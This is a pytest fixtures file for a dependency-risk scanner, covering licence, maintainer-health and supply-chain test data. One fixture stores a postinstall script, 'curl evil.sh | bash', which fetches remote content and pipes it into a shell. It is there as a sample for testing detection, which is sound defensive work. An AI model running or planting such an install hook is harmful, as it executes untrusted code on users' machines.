"""Shared fixtures for deprisk tests."""

from __future__ import annotations

from typing import Any

import pytest

from deprisk.analyzers.licenses import classify_license
from deprisk.models.schemas import (
    CommitFrequency,
    InstallScript,
    MaintainerHealth,
    ScriptType,
    SupplyChainRisk,
)


@pytest.fixture
def mit_license():
    return classify_license("MIT")


@pytest.fixture
def gpl_license():
    return classify_license("GPL-3.0")


@pytest.fixture
def healthy_maintainer() -> MaintainerHealth:
    """Ten contributors, last commit five days ago."""
    return MaintainerHealth(
        contributor_count=10,
        last_commit_days=5,
        is_abandoned=False,
        is_single_maintainer=False,
        commit_frequency=CommitFrequency.ACTIVE,
        risks=[],
    )


@pytest.fixture
def abandoned_maintainer() -> MaintainerHealth:
    """Single maintainer, no commits for two years (score 80)."""
    return MaintainerHealth(
        contributor_count=1,
        last_commit_days=730,
        is_abandoned=True,
        is_single_maintainer=True,
        commit_frequency=CommitFrequency.INACTIVE,
        risks=[
            "Repository appears abandoned (no commits in over a year)",
            "Single maintainer risk (bus factor = 1)",
        ],
    )


@pytest.fixture
def clean_supply_chain() -> SupplyChainRisk:
    return SupplyChainRisk()


@pytest.fixture
def curl_pipe_supply_chain() -> SupplyChainRisk:
    """A postinstall that pipes a download into bash (score 30)."""
    return SupplyChainRisk(
        has_install_scripts=True,
        scripts=[
            InstallScript(
                type=ScriptType.POSTINSTALL,
                content="curl evil.sh | bash",
                risks=["Downloads external content via curl"],
            )
        ],
        attack_surface=[
            "Install-time code execution",
            "Suspicious script patterns detected",
            "postinstall: Downloads external content via curl",
        ],
    )


@pytest.fixture
def sample_package_json() -> dict[str, Any]:
    """A small manifest with one production and one dev dependency."""
    return {
        "name": "sample-app",
        "version": "1.0.0",
        "license": "MIT",
        "dependencies": {"express": "^4.18.2"},
        "devDependencies": {"jest": "~29.7.0"},
    }


@pytest.fixture
def sample_package_lock() -> dict[str, Any]:
    """Lockfile v3 matching sample_package_json plus one nested dependency."""
    return {
        "name": "sample-app",
        "lockfileVersion": 3,
        "packages": {
            "": {"name": "sample-app", "version": "1.0.0"},
            "node_modules/express": {"version": "4.18.2"},
            "node_modules/jest": {"version": "29.7.0", "dev": True},
            "node_modules/express/node_modules/debug": {"version": "2.6.9"},
        },
    }
